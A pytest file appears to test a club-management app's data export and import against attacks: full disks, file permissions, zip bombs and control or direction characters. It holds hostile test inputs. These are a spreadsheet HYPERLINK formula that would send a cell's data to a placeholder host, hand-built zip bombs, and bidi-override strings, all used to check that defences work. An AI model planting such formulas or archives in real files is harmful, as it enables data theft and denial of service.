"""The exchange format under attack: full disks, formulas, zip bombs, doubled files, invisible
characters, file modes. Real files, real archives and workbooks opened back."""

from __future__ import annotations

import io
import os
import stat
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from clubdesk.model.club import Club
from clubdesk.model.errors import ClubdeskError
from clubdesk.model.exchange import export_club, export_member, import_club, sources
from clubdesk.model.exchange.cells import (
    FORMULA_STARTS,
    protect_csv,
    protect_xlsx,
    unprotect,
)
from clubdesk.model.exchange.importer import ImportFailed
from clubdesk.model.exchange.reading import RawFile, read_table
from clubdesk.model.exchange.spec import BY_NAME
from clubdesk.model.exchange.writing import write_csv

CONTAINERS = ("folder", "club.zip", "club.xlsx")


@pytest.fixture
def system_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The system's temporary folder, watched: nothing personal may be left in it."""
    folder = tmp_path / "system-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def everything_in(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


# -- 6. a full disk leaves nothing behind ------------------------------------------------


@pytest.mark.parametrize(("container", "kib"), [("folder", 128), ("club.zip", 32),
                                                ("club.xlsx", 96)])
def test_export_on_a_full_disk_leaves_nothing(small_disk, system_tmp: Path, demo_target: str,
                                              container: str, kib: int) -> None:
    disk = small_disk(kib)
    club = Club.open(demo_target)
    try:
        with pytest.raises(ClubdeskError) as err:
            export_club(club.db, club.actor, disk / container)
    finally:
        club.close()
    message = str(err.value)
    assert "le disque est plein. Rien n'a été écrit." in message, message
    assert everything_in(disk) == [], "personal data left on the full disk"
    assert everything_in(system_tmp) == [], "personal data left in the temporary folder"


@pytest.mark.parametrize("container", ["emilie", "emilie.zip", "emilie.xlsx"])
def test_member_export_on_a_full_disk_leaves_nothing(small_disk, system_tmp: Path,
                                                     demo_target: str, container: str) -> None:
    disk = small_disk(64)
    filler = disk / "filler"
    fd = os.open(filler, os.O_WRONLY | os.O_CREAT)  # the disk is full but for one page
    try:
        while True:
            os.write(fd, b"\0" * 4096)
    except OSError:
        pass
    finally:
        os.close(fd)
    os.truncate(filler, filler.stat().st_size - 4096)
    club = Club.open(demo_target)
    try:
        member = club.members.list_members()[0]
        with pytest.raises(ClubdeskError, match="le disque est plein. Rien n'a été écrit."):
            export_member(club.db, club.actor, member.id, disk / container)
    finally:
        club.close()
    filler.unlink()
    assert everything_in(disk) == [] and everything_in(system_tmp) == []


def test_a_full_disk_through_the_command_line_is_one_true_sentence(
        small_disk, demo_db: Path, tmp_path: Path) -> None:
    disk = small_disk(32)
    temp = tmp_path / "cli-tmp"
    temp.mkdir()
    script = Path(sys.executable).with_name("clubdesk")
    env = {**os.environ, "TMPDIR": str(temp), "CLUBDESK_USER": "direction",
           "CLUBDESK_PASSWORD": "Direction-demo-2026"}
    done = subprocess.run([str(script), "export", str(disk / "club.zip"), "--db",
                           str(demo_db)], capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "Traceback" not in done.stderr
    assert "le disque est plein. Rien n'a été écrit." in done.stderr
    assert everything_in(disk) == [] and everything_in(temp) == []


# -- 12. exports readable by their owner only -------------------------------------------


def test_exports_are_created_readable_by_their_owner_only(tmp_path: Path, club: Club) -> None:
    member = club.members.create("Émilie", last_name="Durand", phone="06 12 34 56 78")
    old = os.umask(0o022)  # a common umask would let others read
    try:
        for container in CONTAINERS:
            export_club(club.db, club.actor, tmp_path / container)
        export_member(club.db, club.actor, member.id, tmp_path / "emilie.zip")
        export_member(club.db, club.actor, member.id, tmp_path / "emilie")
    finally:
        os.umask(old)
    for folder in (tmp_path / "folder", tmp_path / "emilie"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
        for path in folder.iterdir():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for name in ("club.zip", "club.xlsx", "emilie.zip"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name
    with zipfile.ZipFile(tmp_path / "club.zip") as archive:  # and once unpacked
        assert {info.external_attr >> 16 for info in archive.infolist()} == {0o600}
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".clubdesk")]


# -- 7. formulas never run, and round trip exactly -----------------------------------------

HYPERLINK = '=HYPERLINK("http://exemple.invalid/?q="&B2,"Cliquez")'
TRICKY = (HYPERLINK, "=1+2", "-Anne", "+33 6 12", "@x", "'quoted", "'=1+2", "''=x", "''",
          "'", "#N/A", "Anne'")


def test_formula_like_names_are_text_in_every_export_and_round_trip(
        tmp_path: Path, club: Club) -> None:
    made = [club.members.create(name, last_name=name, preferred_name="x" + name)
            for name in TRICKY]
    names = [club.members.get(m.id).first_name for m in made]
    assert names == list(TRICKY)
    for container in CONTAINERS:
        export_club(club.db, club.actor, tmp_path / container)
    # CSV: every cell that a spreadsheet would run starts with a quote
    text = (tmp_path / "folder" / "members.csv").read_text(encoding="utf-8")
    for line in text.splitlines()[1:]:
        for cell in line.split(","):
            assert cell.lstrip('"')[:1] not in FORMULA_STARTS, line
    assert "'=HYPERLINK(" in text and ",'-Anne," in text and ",'@x," in text
    assert ",''=1+2," in text and ",'quoted," in text
    # XLSX: text cells, no formula anywhere (the raw XML has no <f> element)
    book = load_workbook(tmp_path / "club.xlsx")
    cells = [c for row in book["members"].iter_rows(min_row=2) for c in row[1:2]]
    assert [c.value for c in cells] == list(TRICKY[:4]) + ["@x", "'quoted", "''=1+2",
                                                           "'''=x", "'''", "'", "#N/A", "Anne'"]
    assert {c.data_type for c in cells} == {"s"}
    assert cells[0].quotePrefix
    with zipfile.ZipFile(tmp_path / "club.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    # and each export imports back exactly
    for n, container in enumerate(CONTAINERS):
        other = Club.open(str(tmp_path / f"back{n}.sqlite3"))
        import_club(other.db, other.actor, tmp_path / container)
        back = sorted((m.first_name, m.last_name) for m in other.members.list_members())
        assert back == sorted((name, name) for name in TRICKY), container
        other.close()


cell_text = st.text(alphabet="=+-@'\t\r a\",;é", max_size=8)


@settings(max_examples=300, deadline=None)
@given(cell_text)
def test_protection_is_undone_exactly(value: str) -> None:
    assert unprotect(protect_csv(value)) == value
    assert unprotect(protect_xlsx(value)) == value
    assert protect_csv(value)[:1] not in FORMULA_STARTS


@settings(max_examples=150, deadline=None)
@given(st.lists(cell_text.filter(lambda v: v == v.rstrip() and (v == v.lstrip() or
                                                                v[:1] in "\t\r")),
                min_size=3, max_size=3))
def test_csv_files_round_trip_any_cell(values: list[str]) -> None:
    spec = BY_NAME["members.csv"]
    row = ["M1", *values] + [""] * (len(spec.columns) - 4)
    buffer = io.BytesIO()
    write_csv(buffer, spec, [row])
    table = read_table(RawFile("members.csv", "test", data=buffer.getvalue()))
    assert [cells for _line, cells in table.rows] == [row]
    assert table.errors == []


# -- 9. bounded reading ------------------------------------------------------------------


def _zip_by_hand(path: Path, name: str, deflated: bytes, crc: int, declared: int) -> None:
    """One deflated member whose declared size is whatever the test says."""
    encoded = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5021, crc, len(deflated),
                        declared, len(encoded), 0) + encoded
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5021, crc,
                          len(deflated), declared, len(encoded), 0, 0, 0, 0, 0, 0) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central),
                      len(local) + len(deflated), 0)
    path.write_bytes(local + deflated + central + end)


def _zeros_deflated(mib: int) -> tuple[bytes, int]:
    """A deflate stream of ``mib`` MiB of text, about 1 KiB per MiB, and its CRC."""
    chunk = b"M1,Emilie," + b"a" * (1024 * 1024 - 11) + b"\n"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)  # self-contained
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(chunk, crc)
    return block * mib + zlib.compressobj(9, zlib.DEFLATED, -15).flush(), crc


BOMB_SCRIPT = r"""
import resource, sys, time
from pathlib import Path
from clubdesk.model.club import Club
from clubdesk.model.exchange import import_club
from clubdesk.model.errors import ClubdeskError
club = Club.open(sys.argv[1])
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
start = time.perf_counter()
try:
    import_club(club.db, club.actor, Path(sys.argv[2]))
    print("IMPORTED")
except ClubdeskError as exc:
    print("REFUSED", exc)
print("SECONDS", time.perf_counter() - start)
print("GROWTH_KIB", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


def _import_in_child(tmp_path: Path, source: Path) -> dict[str, str]:
    done = subprocess.run([sys.executable, "-c", BOMB_SCRIPT, str(tmp_path / "t.sqlite3"),
                           str(source)], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    assert done.returncode == 0, done.stderr
    return {line.split(" ", 1)[0]: line.split(" ", 1)[1] for line in done.stdout.splitlines()}


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    deflated, crc = _zeros_deflated(2048)  # 2 GiB of members.csv in about 2 MB
    bomb = tmp_path / "bomb.zip"
    _zip_by_hand(bomb, "club/members.csv", deflated, crc, 2048 * 1024 * 1024)
    assert bomb.stat().st_size < 4 * 1024 * 1024
    out = _import_in_child(tmp_path, bomb)
    assert out["REFUSED"].startswith("Import refusé : club/members.csv dans «"), out
    assert "fait plus de 256 Mo une fois décompressé" in out["REFUSED"]
    assert int(out["GROWTH_KIB"]) < 64 * 1024, out  # nothing unpacked (it was 4.3 GB)


def test_a_zip_packed_too_tightly_is_refused_by_its_ratio(tmp_path: Path) -> None:
    deflated, crc = _zeros_deflated(200)  # under the size limit, but 1000 times packed
    bomb = tmp_path / "bomb.zip"
    _zip_by_hand(bomb, "members.csv", deflated, crc, 200 * 1024 * 1024)
    out = _import_in_child(tmp_path, bomb)
    assert "se décompresse plus de 200 fois plus gros" in out["REFUSED"], out
    assert int(out["GROWTH_KIB"]) < 64 * 1024, out


def test_a_declared_size_that_lies_does_not_get_more_read(tmp_path: Path,
                                                          club: Club) -> None:
    deflated, crc = _zeros_deflated(64)  # 64 MiB inside, 1 KiB declared
    liar = tmp_path / "liar.zip"
    _zip_by_hand(liar, "members.csv", deflated, crc, 1024)
    with pytest.raises(ClubdeskError, match="n'est pas une archive .zip lisible"):
        import_club(club.db, club.actor, liar)
    assert club.members.count() == 0


def test_reading_stops_at_the_limit_whatever_the_stream(monkeypatch: pytest.MonkeyPatch,
                                                       tmp_path: Path) -> None:
    monkeypatch.setattr(sources, "MAX_FILE_BYTES", 4 * sources.MIB)
    with open("/dev/zero", "rb") as endless, pytest.raises(ClubdeskError,
                                                           match="fait plus de 4 Mo"):
        sources.read_capped(endless, "members.csv", sources._Budget(tmp_path))


def test_too_many_rows_are_refused_in_one_sentence(monkeypatch: pytest.MonkeyPatch,
                                                  tmp_path: Path, club: Club) -> None:
    monkeypatch.setattr(sources, "MAX_ROWS", 10)
    folder = tmp_path / "src"
    folder.mkdir()
    rows = "".join(f"M{n},Prénom{n}\n" for n in range(11))
    (folder / "members.csv").write_text("member_id,first_name\n" + rows, encoding="utf-8")
    with pytest.raises(ClubdeskError) as err:
        import_club(club.db, club.actor, folder)
    assert str(err.value) == ("Import refusé : members.csv a plus de 10 lignes ; rien n'a été "
                              "enregistré.")
    book = Workbook()
    sheet = book.active
    sheet.title = "members"
    for row in ["member_id,first_name", *rows.splitlines()]:
        sheet.append(row.split(","))
    book.save(tmp_path / "club.xlsx")
    with pytest.raises(ClubdeskError, match="a plus de 10 lignes"):
        import_club(club.db, club.actor, tmp_path / "club.xlsx")
    assert club.members.count() == 0


def test_one_file_per_table_in_an_archive(tmp_path: Path, club: Club) -> None:
    with zipfile.ZipFile(tmp_path / "two.zip", "w") as archive:
        archive.writestr("a/members.csv", "member_id,first_name\nM1,Émilie\n")
        archive.writestr("b/members.csv", "member_id,first_name\nM2,Paul\n")
    with pytest.raises(ClubdeskError) as err:
        import_club(club.db, club.actor, tmp_path / "two.zip")
    assert "deux fois members.csv (« a/members.csv » et « b/members.csv »)" in str(err.value)
    folder = tmp_path / "src"
    folder.mkdir()
    (folder / "members.csv").write_text("member_id,first_name\nM1,Émilie\n")
    (folder / "Members.csv").write_text("member_id,first_name\nM2,Paul\n")
    with pytest.raises(ClubdeskError, match="deux fois members.csv"):
        import_club(club.db, club.actor, folder)
    assert club.members.count() == 0


@pytest.mark.parametrize(("name", "code"), [("Em\x00ilie", "U+0000"), ("Émi\x07lie", "U+0007"),
                                            ("\u202eeilimE", "U+202E"), ("Emi\u2066lie", "U+2066"),
                                            ("Emi\x85lie", "U+0085")])
def test_control_and_direction_characters_are_refused_with_their_place(
        tmp_path: Path, club: Club, name: str, code: str) -> None:
    csv = f"member_id,first_name\nM1,Paul\nM2,{name}\n"
    folder = tmp_path / "src"
    folder.mkdir()
    (folder / "members.csv").write_text(csv, encoding="utf-8")
    with zipfile.ZipFile(tmp_path / "club.zip", "w") as archive:
        archive.writestr("members.csv", csv.encode())
    for source in (folder, tmp_path / "club.zip"):
        with pytest.raises(ImportFailed) as err:
            import_club(club.db, club.actor, source)
        assert err.value.errors == [f"members.csv:3: first_name: caractère invisible interdit "
                                    f"({code}) : caractère de contrôle ou d'inversion du sens "
                                    f"d'écriture."], source
    if code not in ("U+0000", "U+0007"):  # a workbook cannot even hold those
        book = Workbook()
        book.active.title = "members"
        book.active.append(["member_id", "first_name"])
        book.active.append(["M1", name])
        book.save(tmp_path / "club.xlsx")
        with pytest.raises(ImportFailed) as err:
            import_club(club.db, club.actor, tmp_path / "club.xlsx")
        assert err.value.errors[0].startswith(f"members.csv:2: first_name: caractère "
                                              f"invisible interdit ({code})")
    assert club.members.count() == 0


def test_the_annual_report_workbook_holds_no_formula(tmp_path: Path, club: Club) -> None:
    from clubdesk.export.annual_report import write_report_files

    club.structure.add_funding(2026, HYPERLINK, 1000.0, "fir")
    club.structure.add_funding(2026, "#N/A", 10.0, "fir")
    paths = write_report_files(tmp_path / "rapport", club.indicators.compute(2026),
                               funding=club.structure.funding(2026))
    with zipfile.ZipFile(paths[0]) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    book = load_workbook(paths[0])
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if c.value in (HYPERLINK, "#N/A")]
    assert len(found) == 2 and {c.data_type for c in found} == {"s"}
